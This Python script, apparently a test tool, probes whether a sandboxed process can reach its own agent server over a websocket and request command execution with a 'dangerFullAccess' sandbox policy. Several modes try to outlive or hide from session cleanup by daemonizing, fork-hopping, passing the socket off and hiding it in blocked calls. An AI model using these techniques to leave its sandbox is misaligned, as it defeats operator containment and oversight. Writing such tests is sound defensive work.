"""A command in the sandbox that tries to become a client of its own server, and then to run one without a sandbox.

  intruder.py WHERE HOW FILE    WHERE is a path, or HOST PORT joined by a blank; prints the status it was answered

If it gets through, the server makes FILE. Runs without anything but Python's library.
"""
import array
import ctypes
import json
import os
import socket
import struct
import sys
import threading
import time


def frame(text):
    data = text.encode()
    head = bytes([0x81, 0x80 | len(data)]) if len(data) < 126 else struct.pack("!BBH", 0x81, 0x80 | 126, len(data))
    return head + b"\0\0\0\0" + data


def request(path="/", upgrade=True):
    fields = ["Host: localhost"]
    if upgrade:
        fields += ["Connection: Upgrade", "Upgrade: websocket", "Sec-WebSocket-Version: 13",
                   "Sec-WebSocket-Key: dGhlIHNhbXBsZSBub25jZQ==", "Authorization: Bearer super-secret-super-secret-1234"]
    return ("GET " + path + " HTTP/1.1\r\n" + "".join(field + "\r\n" for field in fields) + "\r\n").encode()


def wish(file):
    """All of it at once, for those who do not wait for answers."""
    hello = {"id": 1, "method": "initialize", "params": {"clientInfo": {"name": "intruder", "version": "1"}}}
    command = {"id": 2, "method": "command/exec",
               "params": {"command": ["touch", file], "sandboxPolicy": {"type": "dangerFullAccess"}}}
    return request() + frame(json.dumps(hello)) + frame('{"method":"initialized"}') + frame(json.dumps(command))


def connect(where):
    if where.startswith("/"):
        connection = socket.socket(socket.AF_UNIX)
        connection.connect(where)
    else:
        host, port = where.split(" ")
        family = socket.AF_INET6 if ":" in host else socket.AF_INET
        connection = socket.socket(family)
        if host.startswith("fe80"):
            host, _, link = host.partition("%")
            connection.connect((host, int(port), 0, socket.if_nametoindex(link)))
        else:
            connection.connect((host, int(port)))
    connection.settimeout(5)
    return connection


def status(connection):
    try:
        answer = connection.recv(65536).decode(errors="replace")
    except OSError as error:
        return str(error)
    return answer.split("\r\n")[0].split(" ")[1] if answer else "end"


def talk(connection, file):
    connection.sendall(wish(file))
    said = status(connection)
    time.sleep(0.3)
    print(said, flush=True)


def hand_on(connection):
    """The socket is on its way from us to ourselves, and nobody has it."""
    ours, theirs = socket.socketpair()
    ours.sendmsg([b"x"], [(socket.SOL_SOCKET, socket.SCM_RIGHTS, array.array("i", [connection.fileno()]))])
    connection.close()
    return ours, theirs


def leave_to_calls(connection):
    """Two calls that wait have the socket, one for each direction, and no descriptor is left of it."""
    connection.setblocking(True)
    fd = connection.fileno()
    reader, writer = os.pipe()
    splice = ctypes.CDLL(None).splice
    for call in (lambda: connection.recv(1 << 20, socket.MSG_WAITALL), lambda: splice(reader, None, fd, None, 65536, 0)):
        threading.Thread(target=call, daemon=True).start()
    time.sleep(1)
    os.close(fd)
    return writer


def hop(deadline):
    """From one process to the next, as fast as it goes."""
    while time.monotonic() < deadline:
        if os.fork() > 0:
            os._exit(0)


def intrude(where, how, file):
    if how == "daemon":
        reader, writer = os.pipe()
        if os.fork() > 0:
            os.close(writer)
            print(os.read(reader, 100).decode(), flush=True)
            return
        os.setsid()
        if os.fork() > 0:
            os._exit(0)
        os.dup2(writer, 1)
    connection = connect(where)
    if how in ("direct", "daemon"):
        talk(connection, file)
    elif how == "late":
        time.sleep(1.5)
        talk(connection, file)
    elif how == "probe":
        connection.sendall(request("/readyz", upgrade=False))
        print(status(connection), flush=True)
        talk(connection, file)
    elif how == "close":
        connection.sendall(wish(file))
        connection.close()
        print("closed", flush=True)
    elif how == "exit":
        connection.sendall(wish(file))
    elif how == "heir":
        reader, writer = os.pipe()
        over, theirs = os.pipe()
        if os.fork() == 0:
            if os.fork() > 0:
                os._exit(0)
            os.read(reader, 1)
            talk(connection, file)
            os._exit(0)
        connection.close()
        os.close(theirs)
        os.write(writer, b"x")
        os.read(over, 1)  # its end
    elif how == "flight":
        connection.sendall(wish(file))
        both = hand_on(connection)
        time.sleep(1)
        print("flown", len(both), flush=True)
    elif how == "blocked":
        writer = leave_to_calls(connection)
        os.write(writer, wish(file))
        time.sleep(2)
        print("blocked", flush=True)
        os._exit(0)
    elif how == "hop":
        reader, writer = os.pipe()
        if os.fork() == 0:
            connection.sendall(wish(file))
            hop(time.monotonic() + 1)
            print(status(connection), flush=True)
            os.write(writer, b"x")
            os._exit(0)
        connection.close()
        os.read(reader, 1)


intrude(*sys.argv[1:])
